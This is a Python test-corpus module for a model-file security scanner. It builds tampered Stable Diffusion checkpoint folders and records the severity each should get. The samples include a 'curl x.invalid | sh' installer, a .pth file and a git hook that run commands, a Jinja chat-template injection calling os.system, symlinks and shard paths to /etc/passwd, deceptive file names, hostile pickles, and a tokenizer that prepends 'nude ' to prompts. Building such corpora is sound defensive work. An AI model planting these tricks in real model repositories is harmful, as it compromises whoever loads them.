"""Hostile folders: an ordinary tiny Stable Diffusion with one thing done to it."""

from __future__ import annotations

import atexit
import functools
import json
import os
import shutil
import socket
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from sau_scan.findings import Severity
from tests.corpus.headers import TEMPLATE
from tests.corpus.opcodes import evil
from tests.corpus.sample import Sample, code
from tests.corpus.zips import evil_zip

UNET = "unet/diffusion_pytorch_model.safetensors"
FAST, SETTINGS = "tokenizer/tokenizer.json", "tokenizer/tokenizer_config.json"
Tampering = Callable[[Path, Path], Any]


@functools.cache
def _pipeline() -> Path:
    """One honest folder for all, made when the first is asked for."""
    from tests.conftest import tiny_pipeline

    folder = Path(tempfile.mkdtemp(prefix="sau-corpus-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    tiny_pipeline().save_pretrained(folder)
    return folder


def honest(path: Path) -> None:
    shutil.copytree(_pipeline(), path)


def tampered(*changes: Tampering) -> Tampering:
    def build(path: Path, canary: Path) -> None:
        honest(path)
        for change in changes:
            change(path, canary)

    return build


def put(name: str, data: bytes | str | Callable[[Path], bytes]) -> Tampering:
    """A file added or replaced."""

    def change(folder: Path, canary: Path) -> None:
        content = data(canary) if callable(data) else data
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    return change


def link(name: str, target: str) -> Tampering:
    def change(folder: Path, _: Path) -> None:
        path = folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return change


def _cycle(folder: Path, canary: Path) -> None:
    link("unet/a.json", "b.json")(folder, canary)
    link("unet/b.json", "a.json")(folder, canary)


def edit(name: str, **fields: Any) -> Tampering:
    """Fields of a JSON file; a function gets the old value."""

    def change(folder: Path, _: Path) -> None:
        table = json.loads((folder / name).read_text())
        for key, value in fields.items():
            table[key] = value(table.get(key)) if callable(value) else value
        (folder / name).write_text(json.dumps(table))

    return change


def tensors(change: Callable[[dict[str, Any]], Any]) -> Tampering:
    """The UNet's tensors, changed in place."""

    def apply(folder: Path, _: Path) -> None:
        from safetensors.torch import load_file, save_file

        table = load_file(folder / UNET)
        change(table)
        save_file(table, folder / UNET, metadata={"format": "pt"})

    return apply


def _fifo(folder: Path, _: Path) -> None:
    os.mkfifo(folder / "unet" / "extra.bin")


def _fifo_weights(folder: Path, _: Path) -> None:
    (folder / UNET).unlink()
    os.mkfifo(folder / UNET)


def _socket(folder: Path, _: Path) -> None:
    here = Path.cwd()
    os.chdir(folder)  # a socket's name must be short
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("extra.bin")
    finally:
        os.chdir(here)


def _code_file(canary: Path) -> bytes:
    return f"import torch\n{code(canary)}\n".encode()


def _deep(folder: Path, canary: Path) -> None:
    folder.joinpath(*(["d"] * 300)).mkdir(parents=True)
    folder.joinpath(*(["d"] * 300), "model.pkl").write_bytes(evil(canary))


def _template(folder: Path, canary: Path) -> None:
    run = f"{{{{ cycler.__init__.__globals__.os.system({f'touch {canary}'!r}) }}}}"
    edit(SETTINGS, chat_template=run)(folder, canary)


def _model(**fields: Any) -> Tampering:
    """Fields of ``model`` in ``tokenizer.json``."""
    return edit(FAST, model=lambda old: {**old, **{key: value(old[key]) for key, value in fields.items()}})


def _added(**token: Any) -> Tampering:
    plain = {"single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": False}
    return edit(FAST, added_tokens=lambda old: [*old, {"id": 0, "content": "cat", **plain, **token}])


def _swap(vocabulary: dict[str, int]) -> dict[str, int]:
    return {**vocabulary, "cat</w>": vocabulary["dog</w>"]}


REPLACE = {"type": "Replace", "pattern": {"String": "cat"}, "content": "dog"}
PREPEND = {"type": "Prepend", "prepend": "nude "}
SHARDS = "unet/diffusion_pytorch_model.safetensors.index.json"
TWO_CLASSES = '{"_class_name": "StableDiffusionPipeline", "_class_name": ["pipeline", "Mine"], "unet": ["mine", "Net"]}'


def _shards(target: str) -> Tampering:
    return put(SHARDS, json.dumps({"metadata": {"total_size": 16}, "weight_map": {"conv_in.weight": target}}))


HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
_CODE = "https://github.com/huggingface/diffusers/blob/main/docs/source/en/using-diffusers/custom_pipeline_overview.md"

# id, what was done, how, the least severity, how it is loaded
_FOLDERS: tuple[tuple[str, str, Tampering, Severity, str], ...] = (
    ("code", "a pipeline of its own", put("pipeline.py", _code_file), HIGH, "folder-code"),
    ("code-component", "code beside the UNet", put("unet/mine.py", _code_file), HIGH, ""),
    ("code-stray", "a stray script", put("convert.py", _code_file), MEDIUM, ""),
    ("code-shell", "a shell script", put("install.sh", "curl x.invalid | sh\n"), MEDIUM, ""),
    ("code-library", "a shared library", put("unet/kernel.so", b"\x7fELF\2\1\1" + bytes(99)), MEDIUM, ""),
    ("code-compiled", "compiled Python", put("unet/mine.pyc", b"\xa7\r\r\n" + bytes(60)), MEDIUM, ""),
    ("code-site", "a path file that Python runs", put("evil.pth", "import os; os.system('id')\n"), MEDIUM, ""),
    ("code-hook", "a hook of git", put(".git/hooks/post-checkout", "#!/bin/sh\nid\n"), MEDIUM, ""),
    ("code-notebook", "a notebook with a shell command", put("try.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["!id"]}]})), LOW, ""),
    ("auto-map", "auto_map of the UNet", edit("unet/config.json", auto_map={"AutoModel": "mine.Net"}), HIGH, ""),
    ("auto-map-remote", "auto_map of another repository", edit("text_encoder/config.json", auto_map={"AutoModel": "evil/x--mine.Net"}), HIGH, ""),
    ("auto-map-tokenizer", "auto_map of the tokenizer", edit(SETTINGS, auto_map={"AutoTokenizer": ["mine.T", None]}), HIGH, ""),
    ("custom-pipeline", "custom_pipelines", edit("text_encoder/config.json", custom_pipelines={"x": {"impl": "mine.P"}}), HIGH, ""),
    ("kernel", "an attention kernel of a repository", edit("text_encoder/config.json", _attn_implementation="evil/kernel"), HIGH, ""),
    ("pipeline-class", "a class of its own", edit("model_index.json", _class_name=["pipeline", "Mine"]), HIGH, ""),
    ("foreign-class", "a UNet of another library", edit("model_index.json", unet=["mine", "Net"]), HIGH, ""),
    ("foreign-os", "a UNet from the module os", edit("model_index.json", unet=["os", "system"]), HIGH, ""),
    ("foreign-extra", "a further component of another library", edit("model_index.json", extra=["mine", "Net"]), HIGH, ""),
    ("twice-class", "the index names two classes", put("model_index.json", TWO_CLASSES), HIGH, ""),
    ("hidden-adapter", "an adapter that is loaded unasked", put("text_encoder/adapter_config.json", "{}"), HIGH, ""),
    ("link-weights", "weights that are a link out", link("unet/extra.safetensors", "/etc/passwd"), HIGH, ""),
    ("link-folder", "a folder that is a link out", link("extra", "/etc"), HIGH, ""),
    ("link-up", "a link to the parent folder", link("unet/up", "../.."), HIGH, ""),
    ("link-self", "a link to itself", link("unet/self.json", "self.json"), MEDIUM, ""),
    ("link-cycle", "two links in a circle", _cycle, MEDIUM, ""),
    ("link-here", "a folder that is a link to the checkpoint", link("unet/here", ".."), LOW, ""),
    ("link-device", "a link to a device", link("unet/zero.bin", "/dev/zero"), HIGH, ""),
    ("fifo", "a named pipe", _fifo, MEDIUM, ""),
    ("fifo-weights", "a named pipe for weights", _fifo_weights, MEDIUM, ""),
    ("socket", "a socket", _socket, MEDIUM, ""),
    ("name-case", "names that differ by case", put("unet/Config.JSON", "{}"), LOW, ""),
    ("name-control", "a name with an escape sequence", put("unet/\x1b[2Jx.bin", b"x"), LOW, ""),
    ("name-bidi", "a name that is read backwards", put("unet/model\u202enip.safetensors", b"x"), LOW, ""),
    ("name-newline", "a name of two lines", put("unet/a\nb.bin", b"x"), LOW, ""),
    ("deep-folders", "a hostile pickle 300 folders deep", _deep, HIGH, ""),
    ("shard-up", "a shard outside the folder", _shards("../../outside.safetensors"), HIGH, ""),
    ("shard-absolute", "a shard at an absolute path", _shards("/etc/passwd"), HIGH, ""),
    ("pickle-beside", "a hostile .bin beside safetensors", put("unet/diffusion_pytorch_model.bin", evil_zip), HIGH, "folder-torch"),
    ("pickle-stray", "a hostile pickle at the top", put("model.pkl", evil), HIGH, "folder-pickle"),
    ("pickle-hidden", "a hostile pickle in a hidden folder", put(".cache/huggingface/x", evil), HIGH, ""),
    ("pickle-named-json", "a hostile pickle named .json", put("scheduler/scheduler.json", evil), HIGH, ""),
    ("chat-template", "a chat template that runs a command", _template, HIGH, "chat-template"),
    ("template-file", "a chat template in a file of its own", put("tokenizer/chat_template.jinja", TEMPLATE), MEDIUM, ""),
    ("template-config", "a template in another field", edit("text_encoder/config.json", prompt=TEMPLATE), MEDIUM, ""),
    ("tokenizer-replace", "a word that is replaced", edit(FAST, normalizer=lambda old: {"type": "Sequence", "normalizers": [old, REPLACE]}), HIGH, ""),
    ("tokenizer-prepend", "a word put before each prompt", edit(FAST, normalizer=lambda old: {"type": "Sequence", "normalizers": [old, PREPEND]}), HIGH, ""),
    ("tokenizer-range", "an id out of range", _added(id=99_999, content="<x>"), MEDIUM, ""),
    ("tokenizer-negative", "a negative id", _added(id=-1, content="<x>"), MEDIUM, ""),
    ("tokenizer-word", "an ordinary word as an added token", _added(id=3, content="cat"), MEDIUM, ""),
    ("tokenizer-same-id", "two tokens of one id", _model(vocab=_swap), MEDIUM, ""),
    ("tokenizer-merges", "merges that the vocabulary lacks", _model(merges=lambda old: [*old, ["qq", "zz</w>"]]), MEDIUM, ""),
    ("tokenizer-inserts", "tokens that are put into each prompt", edit(FAST, post_processor={"type": "TemplateProcessing", "single": [{"SpecialToken": {"id": "dog</w>", "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}], "pair": [], "special_tokens": {"dog</w>": {"id": "dog</w>", "ids": [7], "tokens": ["dog</w>"]}}}), MEDIUM, ""),
    ("json-deep", "a configuration 100,000 brackets deep", put("unet/config.json", "[" * 100_000), LOW, ""),
    ("json-large", "a configuration of 40 MB", put("scheduler/extra.json", '{"a": "' + "x" * 40_000_000 + '"}'), LOW, ""),
    ("json-utf-16", "a configuration in UTF-16", put("unet/config.json", "{}".encode("utf-16")), LOW, ""),
    ("weights-mismatch", "a width that the weights do not have", edit("unet/config.json", cross_attention_dim=48), MEDIUM, ""),
    ("weights-extra", "an adapter among the weights", tensors(lambda t: t.update({"conv_in.lora_up.weight": t["conv_in.bias"].clone()})), LOW, ""),
    ("weights-nan", "NaN among the weights", tensors(lambda t: t["conv_in.weight"].view(-1)[3:4].fill_(float("nan"))), HIGH, ""),
    ("weights-dead", "a layer of one value", tensors(lambda t: max(t.values(), key=lambda one: one.numel()).fill_(0.25)), LOW, ""),
    ("weights-disguised", "a pickle named safetensors", put(UNET, evil), HIGH, ""),
)  # fmt: skip

FOLDERS = tuple(
    Sample(
        f"folder-{name}",
        "model",
        what,
        tampered(change),
        least,
        _CODE if name.startswith("code") else "",
        load=load,
    )
    for name, what, change, least, load in _FOLDERS
)
